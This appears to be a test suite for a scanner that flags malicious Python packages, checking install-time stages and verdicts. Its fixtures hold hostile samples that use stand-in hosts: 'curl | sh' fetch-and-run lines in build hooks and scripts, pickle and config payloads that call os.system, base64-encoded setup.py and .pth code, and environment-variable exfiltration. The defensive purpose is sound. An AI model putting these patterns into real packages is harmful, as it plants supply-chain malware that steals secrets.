import type { AnalysisResult } from '@weir/model';
import { describe, expect, test } from 'vitest';
import { analyzeArtifact } from '../analyze.ts';
import { DEFAULT_ANALYSIS_BUDGET } from '../limits.ts';
import { createMemoryView } from '../memory-view.ts';
import { indexPackage } from '../package-index.ts';
import { openDistribution } from './open-distribution.ts';

type Files = Readonly<Record<string, string | Uint8Array>>;

const METADATA = 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.2.0\nRequires-Dist: requests>=2\n\ntext';

async function stagesOf(files: Files, filename: string): Promise<Record<string, string>> {
  await using view = createMemoryView(files);
  const index = indexPackage(view, 'directory');
  const opened = await openDistribution({
    index,
    filename,
    read: (entry) => view.read(entry.index),
    budget: DEFAULT_ANALYSIS_BUDGET,
    now: () => 0,
  });
  return Object.fromEntries([...(opened?.graph.files ?? [])].map(([path, file]) => [path, file.stage]));
}

async function analyze(files: Files, filename: string): Promise<AnalysisResult> {
  await using view = createMemoryView(files);
  return analyzeArtifact(
    view,
    { ecosystem: 'pypi', filename, context: null },
    {
      layout: 'directory',
      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
      rulesetVersion: 'test',
      now: () => 0,
    },
  );
}

describe('what runs when', () => {
  test('of sources: the build at install, packages at import, the rest when it is used', async () => {
    expect(
      await stagesOf(
        {
          'PKG-INFO': METADATA,
          'setup.py': 'from helper import x\nexec(open("acme/_version.py").read())',
          'helper.py': 'x = 1',
          'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["build"]',
          'build/own.py': 'def build_wheel(): pass',
          'acme/__init__.py': 'from . import core\nfrom .sub.deep import y',
          'acme/_version.py': 'v = 1',
          'acme/core.py': '',
          'acme/cli.py': '',
          'acme/sub/__init__.py': '',
          'acme/sub/deep.py': '',
          'tests/test_x.py': '',
          'docs/conf.py': '',
        },
        'acme_tool-1.2.0.tar.gz',
      ),
    ).toEqual({
      'PKG-INFO': 'dead',
      'setup.py': 'install',
      'helper.py': 'install',
      'pyproject.toml': 'dead',
      'build/own.py': 'install',
      'acme/__init__.py': 'import',
      'acme/_version.py': 'install',
      'acme/core.py': 'import',
      'acme/cli.py': 'use',
      'acme/sub/__init__.py': 'import',
      'acme/sub/deep.py': 'import',
      'tests/test_x.py': 'dead',
      'docs/conf.py': 'dead',
    });
  });

  test('of a wheel: what Python starts with, then packages', async () => {
    expect(
      await stagesOf(
        {
          'acme_tool-1.2.0.dist-info/METADATA': METADATA,
          'acme_tool-1.2.0.dist-info/entry_points.txt': '[console_scripts]\nacme = acme.cli:main\n',
          'acme/__init__.py': '',
          'acme/cli.py': '',
          'acme-start.pth': 'import acme.boot\n',
          'acme/boot.py': '',
          'sitecustomize.py': '',
          'setup.py': '',
        },
        'acme_tool-1.2.0-py3-none-any.whl',
      ),
    ).toMatchObject({
      'acme/__init__.py': 'install',
      'acme/boot.py': 'install',
      'acme/cli.py': 'use',
      'acme-start.pth': 'install',
      'sitecustomize.py': 'install',
      'setup.py': 'import',
    });
  });
});

describe('hooks of a build', () => {
  const HATCH = '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n';

  test.each([
    [HATCH, 'tools/hook.py'],
    ['[tool.hatch.metadata.hooks.custom]\n', 'hatch_build.py'],
    ['[tool.pdm.build]\ncustom-hook = "tools/hook.py"\n', 'tools/hook.py'],
    ['[tool.pdm.version]\nsource = "scm"\n', 'pdm_build.py'],
  ])('run at install: %s', async (pyproject, path) => {
    const files = {
      'PKG-INFO': METADATA,
      'acme/__init__.py': '',
      'pyproject.toml': pyproject,
      [path]: 'x = 1',
    };
    expect(await stagesOf(files, 'acme_tool-1.2.0.tar.gz')).toMatchObject({ [path]: 'install' });
  });

  test.each([
    [
      HATCH,
      'from hatchling.builders.hooks.plugin.interface import BuildHookInterface\nclass H(BuildHookInterface):\n  def initialize(self, version, data):\n    os.system("curl -s https://c2.weir.test/x | sh")\n',
    ],
    [
      '[tool.pdm.build]\ncustom-hook = "tools/hook.py"\n',
      'def pdm_build_initialize(context):\n  os.system("curl -s https://c2.weir.test/x | sh")\n',
    ],
  ])('are called by it: %s', async (pyproject, hook) => {
    const files = {
      'PKG-INFO': METADATA,
      'acme/__init__.py': '',
      'pyproject.toml': pyproject,
      'tools/hook.py': `import os\n${hook}`,
    };
    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('malicious');
  });
});

describe('a script of a shell that code starts', () => {
  const SCRIPT = '#!/bin/sh\ncurl -s https://c2.weir.test/x | sh\n';
  const START = 'subprocess.run(["sh", str(Path(__file__).parent / "setup.sh")])';
  const HEAD = 'import subprocess\nfrom pathlib import Path\n';

  test('is read where loading the package starts it', async () => {
    const files = { 'PKG-INFO': METADATA, 'acme/__init__.py': HEAD + START, 'acme/setup.sh': SCRIPT };
    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('malicious');
  });

  test('is not where somebody has to ask for it', async () => {
    const code = `${HEAD}def go():\n  ${START}`;
    const files = { 'PKG-INFO': METADATA, 'acme/__init__.py': code, 'acme/setup.sh': SCRIPT };
    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('benign');
  });
});

describe('data that says what is run', () => {
  const READS = 'import json, os, pickle\nfrom pathlib import Path\nOWN = Path(__file__).parent\n';
  const COMMAND = 'curl -s https://c2.weir.test/x | sh';
  const hooks = JSON.stringify({ ready: ['os', 'system', COMMAND] });
  const named =
    'm, n, *a = json.loads((OWN / "cfg.json").read_text())["ready"]\ngetattr(__import__(m), n)(*a)\n';

  test.each([
    ['a command', 'os.system(json.loads((OWN / "cfg.json").read_text())["ready"][2])', 'cfg.json', hooks],
    [
      'one of an open file',
      'with open(OWN / "cfg.json") as f: os.system(json.load(f)["ready"][2])',
      'cfg.json',
      hooks,
    ],
    ['a function by its name', named, 'cfg.json', hooks],
    [
      'code',
      'exec(json.loads((OWN / "c.json").read_text()))',
      'c.json',
      JSON.stringify(`os.system('${COMMAND}')`),
    ],
    [
      'a table',
      'import tomllib\nos.system(tomllib.loads((OWN / "c.toml").read_text())["a"])',
      'c.toml',
      `a = '${COMMAND}'`,
    ],
    [
      'a pickle',
      'pickle.loads((OWN / "w.pkl").read_bytes())',
      'w.pkl',
      `cposix\nsystem\n(S'${COMMAND}'\ntR.`,
    ],
    [
      'an open pickle',
      'pickle.load((OWN / "w.pkl").open("rb"))',
      'w.pkl',
      `cposix\nsystem\n(S'${COMMAND}'\ntR.`,
    ],
  ])('is followed into what it tells: %s', async (_what, code, name, content) => {
    const files = { 'PKG-INFO': METADATA, 'acme/__init__.py': READS + code, [`acme/${name}`]: content };
    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('malicious');
  });

  test('is none where it names what is the own package', async () => {
    const own = JSON.stringify({ ready: ['acme.themes', 'apply', 'bash'] });
    const files = { 'PKG-INFO': METADATA, 'acme/__init__.py': READS + named, 'acme/cfg.json': own };
    expect((await analyze(files, 'acme_tool-1.2.0.tar.gz')).judgement.verdict).toBe('benign');
  });
});

describe('data that is read and run', () => {
  const SENDS =
    "import os, urllib.request\nurllib.request.urlopen('https://c2.weir.test', data=str(dict(os.environ)).encode())\n";

  test.each([
    "exec(open('tables.dat').read())",
    "import os\nexec(compile(open(os.path.join(os.path.dirname(__file__), 'tables.dat')).read(), __file__, 'exec'))",
    "import os\nwith open(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tables.dat'), encoding='utf-8') as held:\n    exec(held.read())",
  ])('is code, whatever it is called: %s', async (stub) => {
    const result = await analyze(
      { 'PKG-INFO': METADATA, 'acme/__init__.py': stub, 'acme/tables.dat': SENDS },
      'acme_tool-1.2.0.tar.gz',
    );

    expect(result.judgement.verdict).toBe('malicious');
    expect(result.findings[0]?.location).toMatchObject({ file: 'acme/tables.dat', line: 2 });
  });

  test('a source that bears the name of compiled code is code where its text is run', async () => {
    const result = await analyze(
      {
        'PKG-INFO': METADATA,
        'acme/__init__.py': "exec(open('tables.pyc').read())",
        'acme/tables.pyc': SENDS,
      },
      'acme_tool-1.2.0.tar.gz',
    );

    expect(result.findings[0]?.location).toMatchObject({ file: 'acme/tables.pyc', line: 2 });
  });

  test('is no code where it is only read', async () => {
    const result = await analyze(
      { 'PKG-INFO': METADATA, 'acme/__init__.py': "T = open('tables.dat').read()", 'acme/tables.dat': SENDS },
      'acme_tool-1.2.0.tar.gz',
    );

    expect(result.judgement.verdict).toBe('benign');
  });
});

describe('a package that is called as what nobody installs is', () => {
  test('is what its distribution is for when it has no other', async () => {
    expect(
      await stagesOf(
        { 'PKG-INFO': METADATA, 'setup.py': '', 'testing/__init__.py': '', 'testing/docs/x.py': '' },
        'testing-1.2.0.tar.gz',
      ),
    ).toMatchObject({ 'testing/__init__.py': 'import', 'testing/docs/x.py': 'dead' });
  });

  test('lies aside beside another one', async () => {
    expect(
      await stagesOf(
        { 'PKG-INFO': METADATA, 'acme/__init__.py': '', 'tests/__init__.py': '' },
        'acme-1.2.0.tar.gz',
      ),
    ).toMatchObject({ 'acme/__init__.py': 'import', 'tests/__init__.py': 'dead' });
  });
});

describe('a verdict', () => {
  const payload = Buffer.from(
    'import os, requests\nrequests.post("https://collect.weir.test", json=dict(os.environ))',
  ).toString('base64');

  test('of a setup script that decodes and runs what sends the environment away', async () => {
    const result = await analyze(
      {
        'PKG-INFO': METADATA,
        'setup.py': `from setuptools import setup\nimport base64 as b\nexec(b.b64decode("${payload}"))\nsetup(name="acme-tool")`,
      },
      'acme_tool-1.2.0.tar.gz',
    );

    expect(result.judgement).toMatchObject({ verdict: 'malicious', stage: 'install', complete: true });
    expect(result.findings.map(({ rule }) => rule)).toEqual(
      expect.arrayContaining(['decode-and-run/decoded-code', 'env-to-network/environment']),
    );
    expect(
      result.findings.find(({ rule }) => rule === 'decode-and-run/decoded-code')?.location,
    ).toMatchObject({ file: 'setup.py', line: 3 });
  });

  test('of the same line in a file of start-up paths', async () => {
    const result = await analyze(
      {
        'x-1.0.dist-info/METADATA': METADATA,
        'x.pth': `import base64; exec(base64.b64decode("${payload}"))\n`,
        'x/__init__.py': '',
      },
      'x-1.0-py3-none-any.whl',
    );

    expect(result.judgement).toMatchObject({ verdict: 'malicious', stage: 'install' });
  });

  test('of a line in a file of start-up paths that also imports a module of the package', async () => {
    const line =
      'import os, json, urllib.request, x; urllib.request.urlopen("https://c2.weir.test", data=json.dumps(dict(os.environ)).encode())';
    const files = { 'x-1.0.dist-info/METADATA': METADATA, 'x.pth': `${line}\n`, 'x/__init__.py': '' };
    const result = await analyze(files, 'x-1.0-py3-none-any.whl');

    expect(result.judgement).toMatchObject({ verdict: 'malicious', stage: 'install' });
    expect(result.findings[0]?.location).toMatchObject({ file: 'x.pth', line: 1 });
  });

  test('of an honest library that reads a token and asks an API when it is called', async () => {
    const result = await analyze(
      {
        'PKG-INFO': METADATA,
        'setup.py':
          'from setuptools import setup, find_packages\nsetup(name="acme", packages=find_packages())',
        'acme/__init__.py': 'from .client import Client',
        'acme/client.py':
          'import os\nimport requests\n\n\nclass Client:\n    def __init__(self, token=None):\n        self.token = token or os.environ.get("ACME_TOKEN")\n\n    def items(self):\n        return requests.get("https://api.weir.test/items", headers={"Authorization": self.token}).json()\n',
      },
      'acme-1.0.tar.gz',
    );

    expect(result.judgement).toMatchObject({ verdict: 'benign', complete: true });
  });

  test('of what is no distribution: unknown', async () => {
    expect((await analyze({ 'readme.txt': 'x' }, 'x-1.tar.gz')).judgement.verdict).toBe('inconclusive');
  });
});

describe('a text that is too large', () => {
  test('is told to be unread once, however many ask for it', async () => {
    const setup = `import os\n${'#'.repeat(300_000)}\n`;
    const { skipped } = await analyze(
      {
        'PKG-INFO': METADATA,
        'setup.cfg': `[metadata]\nname = acme-tool\n${'#'.repeat(300_000)}\n`,
        'setup.py': setup,
      },
      'acme_tool-1.2.0.tar.gz',
    );

    const large = skipped.filter(({ reason }) => reason.startsWith('larger than 262144'));
    expect(large.map(({ file }) => file)).toEqual([...new Set(large.map(({ file }) => file))]);
    expect(large.length).toBeGreaterThan(0);
  });
});

describe('a file that Python 2 compiled', () => {
  const compiled = (names: string): string => `\u00d1\u00f2\r\n${'\0'.repeat(4)}c${'\0'.repeat(16)}${names}`;
  const verdictOf = async (names: string): Promise<string> => {
    const files = { 'PKG-INFO': METADATA, 'acme.py': 'x = 1\n' };
    await using view = createMemoryView({
      ...files,
      'old.pyc': Buffer.from(compiled(names), 'latin1'),
    });
    const result = await analyzeArtifact(
      view,
      { ecosystem: 'pypi', filename: 'acme_tool-1.2.0.tar.gz', context: null },
      {
        layout: 'directory',
        artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
        rulesetVersion: 'test',
        now: () => 0,
      },
    );
    return result.judgement.verdict;
  };

  test('is no gap where nothing that stands in it could do harm', async () => {
    expect(await verdictOf('t\u0004\0\0\0acme')).toBe('benign');
  });

  test('is one where it names what could', async () => {
    expect(await verdictOf('t\u0006\0\0\0systemt\u0002\0\0\0os')).toBe('inconclusive');
  });
});

test('a compiled module that is cut off is told where the package loads it, and stays unread', async () => {
  // The mark of CPython 3.12, its header, and the beginning of a code object.
  const cutOff = Uint8Array.of(0xcb, 0x0d, 0x0d, 0x0a, ...new Uint8Array(12), 0xe3, 0, 0);
  const module = { 'acme/__init__.py': 'from .core import add\n', 'acme/core.pyc': cutOff };
  const imported = await analyze({ 'PKG-INFO': METADATA, ...module }, 'acme_tool-1.2.0.tar.gz');
  const lying = await analyze(
    { 'PKG-INFO': METADATA, ...module, 'acme/__init__.py': '' },
    'acme_tool-1.2.0.tar.gz',
  );

  expect(imported.findings.map(({ rule }) => rule)).toContain('sourceless-code/broken');
  expect(imported.judgement).toMatchObject({ verdict: 'suspicious', complete: false });
  expect(lying.findings.map(({ rule }) => rule)).not.toContain('sourceless-code/broken');
});
